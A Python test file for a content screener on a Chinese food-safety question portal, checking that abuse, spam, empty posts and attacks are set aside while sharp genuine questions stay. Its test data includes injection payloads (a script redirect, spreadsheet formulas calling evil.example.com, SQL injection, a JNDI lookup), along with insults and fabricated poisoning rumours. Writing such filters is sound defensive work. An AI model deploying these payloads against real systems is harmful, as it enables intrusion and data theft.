"""What may be set aside is told from a sharp question, each with a reason code of the portal."""

import pytest

from studio.screening import REASON_NAMES
from studio.screening.names import PETITION, SHORTEN
from studio.screening.screen_out import declines, screen_out

ASIDE = [
    ("abusive", "楼上那个SB，你全家都有病"),
    ("abusive", "问这个的是不是脑子进水了，蠢货"),
    ("spam", "专业办理健康证，不用体检，快递到家，薇:jkz555"),
    ("spam", "专业灭鼠灭蟑螂，餐饮店年包8折，电话13900000167"),
    ("spam", "急聘传菜员洗碗工，包食宿月薪四千，联系王姐13900000189"),
    ("abusive", "一群饭桶，拿着工资不干活，脸都不要了"),
    ("abusive", "你是猪吗，这都答不上来"),
    ("abusive", "这个局长就是个草包，赶紧下台滚蛋"),
    ("abusive", "前面提问的是傻子吧，笑死人了"),
    ("abusive", "尼玛的食药监，全是吸血鬼"),
    ("spam", "出售各品牌二手奶茶设备，价格面议，电话13000000012"),
    ("spam", "淘宝刷单兼职，一单一结，日入两百，加Q 123456789"),
    ("spam", "本店新开业，全场八折，地址云州市北城区，欢迎新老顾客光临"),
    ("spam", "专业代写论文、代考健康证，诚信可靠，VX xyz_2025"),
    ("spam", "优质茶叶批发，厂家直供，一件代发，联系微信tea_8888"),
    ("spam", "房产抵押贷款，当天放款，利息低，详情私聊"),
    ("empty", "顶顶顶顶顶顶顶顶顶顶顶顶顶顶"),
    ("spam", "抢红包啦！点击 http://hb.example.com 领取现金"),
    ("malicious", "<script>document.location='http://evil.example.com'</script>"),
    ("malicious", "=cmd|'/c notepad'!A1"),
    ("malicious", "+SUM(A1:A9)"),
    ("malicious", "'; DROP TABLE question; --"),
    ("malicious", "听内部人说全市猪肉都有毒，政府在隐瞒，大家赶快转发别吃了！"),
    ("malicious", "昨天某学校食堂毒死了十个学生，新闻全被封了，速转！"),
    ("malicious", "${jndi:ldap://evil.example.com/a}"),
    ("empty", "……"),
    ("empty", "   。"),
    ("empty", "啊啊啊"),
    ("empty", "asdf"),
    ("abusive", "领导们全是蛀虫，早点去死"),
    ("abusive", "主持人你长这么丑也好意思上镜，滚下去"),
    ("abusive", "这帮狗东西收了多少黑钱"),
    ("abusive", "楼上这位是托儿吧，恶心死了"),
    ("abusive", "说的都是屁话，一群废物点心"),
    ("spam", "大量回收过期食品、临期饮料，量大价高，电话13000000021"),
    ("spam", "考健康证不用体检，三天出证，私信我"),
    ("spam", "旺铺转让，客源稳定，接手即可盈利，联系13000000022"),
    ("spam", "瘦身茶一个月瘦20斤，无效退款，加微信 shou_2025"),
    ("spam", "本公司提供开业庆典、广告制作、条幅印刷服务，价格优惠"),
    ("spam", "正宗土鸡蛋，农家散养，同城配送，下单找我"),
    ("spam", "转发此条好运连连，转发此条好运连连，转发此条好运连连"),
    ("malicious", '<iframe src="http://evil.example.com"></iframe>'),
    ("malicious", '=IMPORTXML("http://evil.example.com","//a")'),
    ("malicious", "惊爆！自来水检出剧毒，官方不敢说，快告诉家人别喝！"),
    ("empty", "admin'--"),
    ("empty", "，，，，，，"),
    ("empty", "早"),
    ("empty", "已阅"),
    ("abusive", "当官的没一个好东西，全家不得好死"),
    ("abusive", "你们局长就是个窝囊废，尸位素餐"),
    ("abusive", "提问的都是水军吧，脑残一群"),
    ("abusive", "放你娘的屁，什么安全不安全"),
    ("spam", "本地家政，擦玻璃、油烟机清洗，随叫随到，13000000031"),
    ("spam", "低价供应进口牛排，支持批发零售，量大从优，加微xyz123"),
    ("spam", "手机贷款，最快三分钟到账，黑户也能办，点链接"),
    ("spam", "招聘兼职打字员，日结三百，宝妈学生都可以，加扣扣"),
    ("spam", "本店主营烟酒茶，欢迎光临，地址在解放路"),
    ("spam", "刷题神器，考证必过，扫码领资料"),
    ("spam", "卖房卖房，学区房急售，价格可谈"),
    ("spam", "信我者得永生，信我者得永生，信我者得永生"),
    ("malicious", "javascript:alert(document.cookie)"),
    ("malicious", '@IMPORT("http://evil.example.com/x.css")'),
    ("malicious", "紧急通知！某超市大米有毒，已经死了几个人，务必转发所有群！"),
    ("empty", "？！"),
    ("empty", "辛苦了"),
    ("empty", "66666"),
    ("spam", "专业疏通下水道，24小时上门，电话13900000000"),
    ("spam", "诚招兼职，日赚300，在家就能做，加薇芯 abc12345"),
    ("spam", "祖传秘方根治糖尿病，无效退款，咨询微信同号"),
    ("spam", "免费领取鸡蛋，点击链接 http://t.example/abc"),
    ("spam", "低价出售二手空调 联系电话13900000000 上门安装"),
    ("spam", "办理各类信用卡套现，秒到账，私聊"),
    ("spam", "买房找我，优惠多多，看主页"),
    ("spam", "好消息好消息好消息好消息好消息好消息好消息好消息"),
    ("spam", "哈哈哈哈哈哈哈哈哈哈哈哈哈哈哈哈"),
    ("spam", "XX培训学校暑期班招生啦，限时优惠，欢迎咨询 QQ 12345678"),
    ("spam", "股票群免费进，每日荐股稳赚不赔，扫码进群"),
    ("spam", "美团外卖大额红包，复制口令打开领红包，每天都能领"),
    ("abusive", "你们都是一群猪，吃纳税人的饭不干人事"),
    ("abusive", "主持人傻逼吧，会不会说话"),
    ("abusive", "垃圾政府，垃圾局长，你们滚"),
    ("abusive", "回答个屁，你们这些狗东西"),
    ("abusive", "提问的人是不是有病啊，神经病"),
    ("abusive", "操你妈的"),
    ("abusive", "nmsl"),
    ("empty", "。。。"),
    ("empty", "[微笑][微笑]"),
    ("empty", "1"),
    ("empty", "哈哈"),
    ("empty", "👍👍👍"),
    ("empty", "测试测试"),
    ("malicious", "=cmd|' /C calc'!A0"),
    ("malicious", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("malicious", "<img src=x onerror=alert(1)>"),
    ("malicious", "' OR 1=1 --"),
    ("malicious", "http://phish.example.com/login"),
    ("malicious", "点我领奖 http://phish.example.com"),
    ("malicious", "内部消息，全市自来水被投毒，已经死了几十个人，政府封锁消息，赶紧转发给家人！"),
    ("malicious", "听说肉联厂的猪全是病死的，死了好多人，电视不敢报，大家扩散！"),
    ("malicious", "{{7*7}}"),
    ("illegal_placeholder", "（此处为违规内容，已屏蔽）"),
    ("illegal_placeholder", "【占位：违禁信息】"),
    ("illegal_placeholder", "出售枪支弹药，货到付款"),
]
QUESTIONS = [
    "微商卖的瘦身咖啡喝了心慌手抖，是不是加了违禁药",
    "网上说包治百病的药酒，电话打过去让我加微信汇款",
    "我在平台下单八折的套餐，商家不给发票",
    "楼下奶茶店老板骂我神经病，就因为我要小票",
    "买到“三天包退”的降糖茶，退货地址是空的",
    "隔夜菜有毒是真的吗，朋友圈都在转发",
    "听说某品牌奶粉有问题，官方能不能辟谣？",
    "超市优惠券不能用，怎么投诉？",
    "加盟奶茶店被骗加盟费，找哪个部门？",
    "兼职刷单被骗了怎么报案",
    "食堂饭菜猪都不吃，学校管不管",
    "这种黑心作坊就该滚出市场，请严查！",
    "卖假药的真是畜生，坑老人的钱，你们能不能严惩？",
    "直播间主播说的免费领鸡蛋是不是套路",
    "微信群里卖的自制香肠能买吗",
    "二手冰箱卖熟食卫生吗",
    "扫码领红包要填身份证，安全吗？",
    "商家24小时营业需要什么许可",
    "店家让加微信退款，可信吗",
    "保健品广告说根治糖尿病，违法吗？",
    "请回复13000000001",
    "希望领导重视食品安全",
    "夏天吃凉菜要注意什么",
    "公示一下黑名单",
    "举报XX路烧烤店使用病死猪肉",
    "外卖员态度恶劣，骂人神经病，怎么投诉",
    "价格公示不清，菜单上写时价",
    "求推荐靠谱的体检医院",
    "买的土鸡蛋是不是真的散养，怎么鉴别？",
    "临期饮料回收后流向哪里，有没有监管",
    "健康证三天能出证吗，去哪里办",
    "微商卖的瘦身茶喝了心慌，怎么维权",
    "开业庆典发的试吃品过期，怎么投诉",
    "我在店里吃出蟑螂，老板骂我有病，态度恶劣，希望处理",
    "这家饭馆的厨师没戴口罩，恶心",
    "领导们辛苦了，想问问夜市整治到哪一步了",
    "政府公布的抽检结果在哪里查",
    "嘉宾说的三无食品怎么理解",
    "自来水有股味道，能不能喝",
    "前面那位网友说的封签，什么时候推行",
    "你们抽检一次多少钱",
    "您是怎么看待预制菜进校园的",
    "家政公司清洗油烟机乱收费怎么办",
    "学区房旁边的餐饮店可以办证吗",
    "贷款买的理疗床能不能退",
    "老板欠我工资，饭店也没有许可证，请查处",
    "超市大米有异味，能不能抽检",
    "有人在小区群里卖自制牛排，合法吗",
    "我们单位食堂外包给不合格公司，没人管",
    "主持人能不能问问冷链运输的事",
    "小吃店的油发黑，吃了反胃，太恶心了",
    "垃圾食品泛滥，学校门口都是",
    "刚买的面包有霉点，店家不认账",
    "外卖里有头发，商家说是正常现象",
    "这家店的老板太缺德了，卖的全是过期货，你们管不管？",
    "黑心商家，垃圾食品害人，请严查",
    "我被骗子骗去加微信，说免费领鸡蛋，结果买了两千块保健品，怎么退？",
    "网上说的减肥神器包治百病，是不是骗人的",
    "直播间优惠买的货，客服让我加微信退款，是诈骗吗？",
    "红包返现的活动商家不认账怎么投诉",
    "在搬家公司搬家被临时加价，找谁投诉",
    "为什么流动摊点天天扰民没人管，你们城管是干什么吃的",
    "办证大厅几点上班",
    "<b>请问</b>外卖怎么投诉",
    "-18度的冷冻柜断电了，里面的肉还能卖吗",
    "=_= 请问医保怎么报销呀",
    "有人在群里转发说盐要涨价，是真的吗？",
    "听说海鲜市场的虾有毒，是谣言吗？",
    "垃圾分类什么时候推行",
    "狗肉火锅店有检疫吗",
    "猪瘟会传染给人吗",
    "滚筒洗衣机的能效标识怎么看",
    "操场边上的小卖部卖过期饮料",
    "感谢主持人，讲得很好",
    "发票中奖是真的吗",
    "商家不给开发票怎么办",
    "请问www.example.gov.cn这个网站能查许可证吗",
    "扫码点餐强制关注公众号合法吗",
    "贷款买的车能退吗",
    "老人被带去免费旅游买了理疗床",
    "希望多建停车场",
    "支持严查地沟油",
    "食品安全人人有责",
    "打电话12345反映了三次没有结果，互相推诿，踢皮球",
    "开发商拖欠工资，农民工讨薪无门",
]


@pytest.mark.parametrize(("reason", "text"), ASIDE)
def test_what_is_no_question_is_suggested_with_its_reason(reason: str, text: str) -> None:
    found = declines(screen_out(text))
    assert found is not None
    assert found.reason == reason
    assert reason in REASON_NAMES


@pytest.mark.parametrize("text", QUESTIONS)
def test_a_question_stays_however_sharp(text: str) -> None:
    assert declines(screen_out(text)) is None


def test_a_reason_shows_its_words() -> None:
    found = declines(screen_out("低价出售空调 联系电话13900000000"))
    assert found is not None
    assert {"低价", "联系电话", "13900000000"} <= set(found.words)


@pytest.mark.parametrize("text", ["", "   ", "\u200b\u202e", "🎉🎉", "\ud800"])
def test_a_text_without_a_word_is_empty(text: str) -> None:
    assert [one.reason for one in screen_out(text)] == ["empty"]


def test_a_petition_is_handed_over_and_not_declined() -> None:
    found = screen_out("征地补偿款拖了三年没发，多次上访都没有结果，怎么办？")
    assert [one.reason for one in found] == [PETITION]
    assert declines(found) is None


def test_a_long_letter_is_asked_to_be_shorter() -> None:
    letter = "".join(f"第{n}天我又去菜市场问了一遍价格，" for n in range(90))
    assert [one.reason for one in screen_out(letter + "能不能管管？")] == [SHORTEN]
